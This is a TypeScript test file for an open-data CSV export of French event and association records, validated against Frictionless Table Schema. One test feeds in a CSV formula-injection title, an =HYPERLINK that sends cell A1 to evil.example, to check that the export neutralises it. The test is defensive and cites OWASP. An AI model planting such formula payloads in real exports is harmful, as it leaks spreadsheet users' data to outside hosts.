import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Table, validate } from 'tableschema';
import { describe, expect, test } from 'vitest';
import { COLLECTIONS } from '../../schemas/collections.ts';
import { createSchemas } from '../../schemas/index.ts';
import { collectionJsonSchema } from '../contribution/field-model.ts';
import { toCsv } from './csv.ts';
import { exportRecord, recordSchema, type ExportRecord } from './open-data.ts';
import { csvColumns, tableSchema, type Column } from './table-schema.ts';

const lists = { themes: ['gouvernance', 'formation'], departements: ['22', '42'], regions: ['53', '84'] };
const schemas = createSchemas(lists);
const columnsOf = (c: keyof typeof schemas) => csvColumns(recordSchema(collectionJsonSchema(schemas[c], lists)));
const names = (cols: readonly Column[]) => cols.map((c) => c.field.name);

const event = (fields: Record<string, unknown>) =>
  exportRecord(
    'journee-d-essai',
    'https://e.org/evenements/journee-d-essai/',
    schemas.evenements.parse({
      titre: 'Journée d’essai',
      resume: 'Une journée imaginaire, pour vérifier que l’export des données ouvertes reste valide.',
      type: 'rencontre',
      debut: '2025-06-30T09:00:00+02:00',
      fin: '2025-06-30T17:00:00+02:00',
      lieu: { commune: 'Pélussin', code_insee: '42168', departement: '42', coordonnees: [4.68, 45.42] },
      organisateurs: ['asso-test', 'cap-rural'],
      themes: ['gouvernance', 'formation'],
      publie_le: '2026-01-10',
      sources: [{ titre: 'Programme, « version 2 »', url: 'https://example.org/p' }, { titre: 'Compte rendu' }],
      ...fields,
    }),
  );

const actor = (id: string, fields: Record<string, unknown>) =>
  exportRecord(
    id,
    `https://e.org/acteurs/${id}/`,
    schemas.acteurs.parse({
      titre: 'Association d’essai',
      resume: 'Une association imaginaire, pour vérifier que l’export des données ouvertes reste valide.',
      type: 'association_locale',
      themes: ['gouvernance'],
      publie_le: '2026-01-10',
      ...fields,
    }),
  );

/** Writes the CSV and reads it back through the Frictionless Table Schema library, which casts every cell. */
async function checkWithTableSchema(columns: readonly Column[], records: readonly ExportRecord[]) {
  const schema = tableSchema(columns);
  expect(await validate(schema), 'the Table Schema itself').toEqual({ valid: true, errors: [] });
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'csv-')), 'export.csv');
  writeFileSync(file, toCsv(columns, records));
  const table = await Table.load(file, { schema });
  const rows = await table.read({ keyed: true });
  expect(table.headers).toEqual(names(columns));
  return rows as Array<Record<string, unknown>>;
}

const cellsOf = (columns: readonly Column[], r: ExportRecord) => Object.fromEntries(columns.map((c) => [c.field.name, c.cell(r)]));

describe('csvColumns', () => {
  test('give one type per column: date and Paris time, all-day flag, latitude and longitude, no JSON', () => {
    const columns = columnsOf('evenements');
    expect(names(columns).slice(0, 2)).toEqual(['id', 'url']);
    expect(names(columns)).toEqual(
      expect.arrayContaining([
        'debut_date',
        'debut_heure',
        'fin_date',
        'fin_heure',
        'journee_entiere',
        'latitude',
        'longitude',
        'lieu_commune',
        'sources_titre',
        'sources_url',
      ]),
    );
    expect(names(columns)).not.toContain('brouillon');
    expect(names(columns)).not.toContain('lieu_coordonnees');
    const cells = cellsOf(columns, event({}));
    expect(cells).toMatchObject({
      debut_date: '2025-06-30',
      debut_heure: '09:00:00',
      fin_heure: '17:00:00',
      journee_entiere: 'false',
      latitude: '45.42',
      longitude: '4.68',
    });
    expect(cells).toMatchObject({
      themes: 'gouvernance|formation',
      organisateurs: 'asso-test|cap-rural',
      sources_titre: 'Programme, « version 2 »|Compte rendu',
      sources_url: 'https://example.org/p|',
    });
    for (const v of Object.values(cells)) expect(v).not.toMatch(/^[[{]/);
    const allDay = cellsOf(columns, event({ debut: '2016-11-24', fin: '2016-11-25' }));
    expect(allDay).toMatchObject({ debut_date: '2016-11-24', debut_heure: '', fin_date: '2016-11-25', journee_entiere: 'true' });
  });

  test('split « true or a date » into a boolean and a date', () => {
    const columns = columnsOf('acteurs');
    expect(cellsOf(columns, actor('a', { signataire_charte: '2017-06-01' }))).toMatchObject({
      signataire_charte: 'true',
      signataire_charte_date: '2017-06-01',
    });
    expect(cellsOf(columns, actor('b', { signataire_charte: true }))).toMatchObject({
      signataire_charte: 'true',
      signataire_charte_date: '',
    });
    expect(cellsOf(columns, actor('c', {}))).toMatchObject({ signataire_charte: 'false', signataire_charte_date: '' });
  });

  test('leave a practice’s objective tree, deeper than a table, to the JSON export', () => {
    expect(names(columnsOf('pratiques')).some((n) => n.startsWith('arbre_objectifs'))).toBe(false);
  });
});

describe('the CSV exports through a Table Schema validator', () => {
  test.each(COLLECTIONS)('%s: the schema is a valid Table Schema', async (c) => {
    expect(await validate(tableSchema(columnsOf(c)))).toEqual({ valid: true, errors: [] });
  });

  test('events, timed and all-day, pass their schema and cast to typed values', async () => {
    const rows = await checkWithTableSchema(columnsOf('evenements'), [
      event({}),
      {
        ...event({ debut: '2016-11-24', fin: '2016-11-25', lieu: undefined, lieu_non_precise: true }),
        id: 'deux-jours',
        url: 'https://e.org/evenements/deux-jours/',
      },
    ]);
    expect(rows[0]).toMatchObject({ id: 'journee-d-essai', journee_entiere: false, latitude: 45.42 });
    expect(rows[1]).toMatchObject({ journee_entiere: true, debut_heure: null, latitude: null });
  });

  test('actors with and without a charter date pass their schema', async () => {
    const rows = await checkWithTableSchema(columnsOf('acteurs'), [
      actor('a', { signataire_charte: '2017-06-01' }),
      actor('b', { signataire_charte: true }),
      actor('c', {}),
    ]);
    expect(rows.map((r) => r.signataire_charte)).toEqual([true, true, false]);
  });

  test('a title starting with = reaches the CSV as text, not as a formula, and still passes its schema', async () => {
    const columns = columnsOf('acteurs');
    const hostile = actor('formule', { titre: '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")' });
    const csv = toCsv(columns, [hostile]);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1;""Cliquez"")",`);
    const [row] = await checkWithTableSchema(columns, [hostile]);
    expect(row!.titre).toBe(`'${hostile.titre}`);
    expect(tableSchema(columns).description).toContain('OWASP');
  });

  test('an item that holds the list separator cannot split its list', () => {
    const cells = cellsOf(columnsOf('evenements'), event({ sources: [{ titre: 'Avant | après' }] }));
    expect(cells.sources_titre).toBe('Avant / après');
  });

  test('a value outside its list fails the schema (the check is not empty)', async () => {
    const columns = columnsOf('evenements');
    const bad = { ...event({}), themes: ['pas-un-theme'] };
    await expect(checkWithTableSchema(columns, [bad])).rejects.toThrow(/mismatch/);
  });
});
